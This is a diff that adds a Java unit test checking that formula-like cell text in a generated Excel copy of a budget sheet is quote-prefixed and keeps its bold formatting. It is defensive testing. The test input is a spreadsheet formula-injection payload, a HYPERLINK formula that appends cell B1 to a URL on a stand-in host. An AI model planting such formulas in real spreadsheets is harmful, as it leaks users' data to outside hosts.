@@ -279,6 +279,38 @@ class AnnotatedCopiesTest {
         }
     }
 
+    @Test
+    void workbookTextThatCouldRunAsAFormulaIsQuotePrefixedInTheCopyWithItsFormatKept() throws IOException {
+        Path xlsx = temp.resolve("uraian.xlsx");
+        try (org.apache.poi.xssf.usermodel.XSSFWorkbook book = new org.apache.poi.xssf.usermodel.XSSFWorkbook()) {
+            Sheet sheet = book.createSheet("Anggaran");
+            org.apache.poi.ss.usermodel.CellStyle bold = book.createCellStyle();
+            org.apache.poi.ss.usermodel.Font font = book.createFont();
+            font.setBold(true);
+            bold.setFont(font);
+            org.apache.poi.ss.usermodel.Row row = sheet.createRow(0);
+            row.createCell(0).setCellValue("=HYPERLINK(\"http://x.example/?d=\"&B1,\"klik\")");
+            row.getCell(0).setCellStyle(bold);
+            row.createCell(1).setCellValue("- Belanja Pegawai");
+            row.createCell(2).setCellValue("Belanja Modal");
+            try (java.io.OutputStream stream = Files.newOutputStream(xlsx)) {
+                book.write(stream);
+            }
+        }
+        Map<String, AnnotatedCopy> copies = write(result(List.of(readable("uraian.xlsx", xlsx)), List.of()));
+
+        try (Workbook workbook = open(out(copies.get("uraian.xlsx")))) {
+            Sheet sheet = workbook.getSheet("Anggaran");
+            Cell hyperlink = cell(sheet, "A1");
+            assertThat(hyperlink.getCellType()).isEqualTo(CellType.STRING);
+            assertThat(hyperlink.getStringCellValue()).isEqualTo("=HYPERLINK(\"http://x.example/?d=\"&B1,\"klik\")");
+            assertThat(hyperlink.getCellStyle().getQuotePrefixed()).isTrue();
+            assertThat(workbook.getFontAt(hyperlink.getCellStyle().getFontIndex()).getBold()).isTrue();
+            assertThat(cell(sheet, "B1").getCellStyle().getQuotePrefixed()).isTrue();
+            assertThat(cell(sheet, "C1").getCellStyle().getQuotePrefixed()).isFalse();
+        }
+    }
+
     // ------------------------------------------------------------------------------ run results made by hand
 
     @Test
